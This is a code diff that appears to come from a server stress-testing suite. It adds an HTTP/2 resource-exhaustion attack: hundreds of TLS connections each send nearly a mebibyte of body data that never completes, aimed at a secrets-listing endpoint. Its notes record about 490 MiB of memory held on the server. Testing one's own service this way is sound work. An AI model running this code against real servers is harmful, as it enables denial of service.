@@ -7,6 +7,7 @@ import http2
 import net
 from http2 import (DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, frame, get, head, literal, settings,
                    window_update)
+from attacks.tenant import many_names
 from trial import attack
 
 CONNECTIONS = 400
@@ -88,6 +89,35 @@ def every_way(trial):
 
 
 # Requests. None of what these send is ever complete, or none of it is taken.
+
+def bodies(address, how, request, connections):
+    """Requests with a body of nearly a MiB each, which do not end; gives back how many were sent."""
+    held, end = [], time.monotonic() + OPENING
+    piece = frame(DATA, 0, 1, b"x" * 16_384)
+    while len(held) < connections and time.monotonic() < end:
+        try:
+            connection = net.tls(address, how, timeout=1)
+            connection.sendall(PREFACE + settings([(INITIAL_WINDOW_SIZE, 0)]))
+            # The windows are wide once the server has said so.
+            connection.recv(4096)
+            connection.sendall(frame(http2.SETTINGS, http2.ACK, 0) + request)
+            connection.sendall(piece * 60)
+            held.append(connection)
+        except OSError:
+            time.sleep(0.02)
+    yield len(held)
+    time.sleep(OPENING)
+
+
+@attack("bodies of reads, a tenant", rss=256, prepare=many_names)
+def bodies_of_reads(trial):
+    """Lists wait for their turns; what came with them lay uncounted in the server: 490 MiB of 400 connections."""
+    how = net.context(trial.region.loud)
+    request = frame(HEADERS, END_HEADERS, 1, head("GET", "/v1/secret/detailed-metadata/names?list=true"))
+    attackers = [trial.start(bodies, trial.address, how, request, 200) for _ in range(2)]
+    trial.note(f"{sum(attacker.result() for attacker in attackers)} requests")
+    time.sleep(ARRIVED)
+
 
 NO_WINDOW = PREFACE + settings([(INITIAL_WINDOW_SIZE, 0)])
 
